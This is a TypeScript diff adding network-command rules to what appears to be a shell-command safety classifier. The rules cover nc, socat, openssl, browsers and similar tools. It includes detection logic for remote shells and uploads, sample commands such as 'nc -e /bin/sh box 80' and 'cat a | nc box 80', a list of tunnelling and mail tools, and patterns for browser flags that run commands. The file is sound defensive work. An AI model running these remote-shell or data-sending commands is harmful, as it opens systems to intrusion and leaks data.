@@ -1,0 +1,117 @@
+/** Asking other machines, and plain connections. */
+import type { Call } from '../call.ts';
+import { weighVariable } from '../environment.ts';
+import { type CommandSpec, type Flags, words } from '../spec.ts';
+import { literal } from '../word.ts';
+
+const asks = (names: string, flags: Flags = {}): CommandSpec => {
+  const all = names.split(' ');
+  return { names: all, flags, operands: ['...host'], examples: [[`${all[0]} example.org`, 'safe']] };
+};
+
+const judgeNc = (call: Call): void => {
+  if (call.has('-e', '-c', '--exec', '--sh-exec', '--lua-exec')) call.mark('remote-shell');
+  if (call.has('-l', '--listen')) call.mark('listen');
+  else if (
+    !call.has('-z') &&
+    call.scope.stdin.kind !== 'own' &&
+    !(call.scope.stdin.kind === 'text' && call.scope.stdin.text === '')
+  )
+    call.mark('upload');
+  else if (!call.has('-z')) call.unknown('an open connection');
+};
+
+export const network: readonly CommandSpec[] = [
+  {
+    names: ['whois'],
+    flags: { '-h --host -p --port': { value: 'none', does: ['network', '!upload'] } },
+    operands: ['...host'],
+    examples: [
+      ['whois example.org', 'safe'],
+      ['whois -h box a', 'dangerous'],
+    ],
+  },
+  asks('ping ping6 fping traceroute traceroute6 tracepath mtr nslookup host dig drill kdig delv arping', {
+    '-c -i -W -w -s -t -p -q -I -M -f -m -b': 'none',
+    '-f': 'none',
+    '@': 'none',
+  }),
+  {
+    names: ['nc', 'ncat', 'netcat', 'nc.traditional', 'nc.openbsd'],
+    flags: { '-w -p -s -i -q -X -x': 'none', '-e -c --exec --sh-exec --lua-exec': 'unknown' },
+    operands: ['host', 'none'],
+    judge: judgeNc,
+    examples: [
+      ['nc -z box 80', 'safe'],
+      ['nc -l 80', 'dangerous'],
+      ['nc -e /bin/sh box 80', 'opaque'],
+      ['cat a | nc box 80', 'dangerous'],
+    ],
+  },
+  {
+    names: words(
+      'socat telnet ftp lftp tftp smbclient ncftp nmap masscan hping3 tcpdump tshark ngrep chisel ngrok cloudflared sshfs mail mailx sendmail mutt swaks gost frpc',
+    ),
+    does: ['network', 'unknown'],
+    examples: [
+      ['socat a b', 'opaque'],
+      ['telnet box', 'opaque'],
+    ],
+  },
+  {
+    names: ['openssl'],
+    subcommands: {
+      s_client: {
+        style: 'long',
+        flags: { '-connect -servername -starttls -CAfile -proxy': 'host' },
+        does: ['network'],
+        judge: (call) => {
+          if (call.scope.stdin.kind === 'pipe' || call.scope.stdin.kind === 'file') call.mark('upload');
+        },
+      },
+      x509: { style: 'long', flags: { '-in': 'read', '-out': 'write' } },
+      version: {},
+      ciphers: {},
+      rand: { style: 'long', flags: { '-out': 'write' } },
+      passwd: {},
+      dgst: { style: 'long', flags: { '-out': 'write', '-engine -provider-path': 'unknown' }, operands: ['...read'] },
+      enc: {
+        style: 'long',
+        flags: {
+          '-in': 'read',
+          '-out': 'write',
+          '-k -K -iv -pass -S -kfile': 'none',
+          '-engine -provider-path': 'unknown',
+        },
+      },
+      verify: { style: 'long', flags: { '-CAfile': 'read' }, operands: ['...read'] },
+      req: {
+        style: 'long',
+        flags: { '-in -config': 'read', '-out -keyout': 'write', '-engine': 'unknown', '-subj -newkey -days': 'none' },
+      },
+      genrsa: { style: 'long', flags: { '-out': 'write' } },
+      genpkey: { style: 'long', flags: { '-out': 'write' } },
+    },
+    examples: [
+      ['openssl s_client -connect example.org:443', 'safe'],
+      ['openssl x509 -in a.crt -noout', 'safe'],
+      ['openssl enc -d -base64 -in a', 'safe'],
+      ['openssl s_server -port 1', 'opaque'],
+    ],
+  },
+  {
+    names: words('xdg-open open start sensible-browser firefox google-chrome chromium gnome-open'),
+    does: ['write'],
+    operands: ['...none'],
+    judge: (call) => {
+      for (const arg of call.args)
+        if (
+          /^--(?:renderer-cmd-prefix|gpu-launcher|utility-cmd|load-extension|browser-subprocess)|^-a/.test(arg.text) &&
+          call.name !== 'open'
+        )
+          call.unknown('a browser flag that runs a command');
+      weighVariable(call, 'BROWSER', literal(''));
+    },
+    examples: [['xdg-open a.pdf', 'write']],
+  },
+];
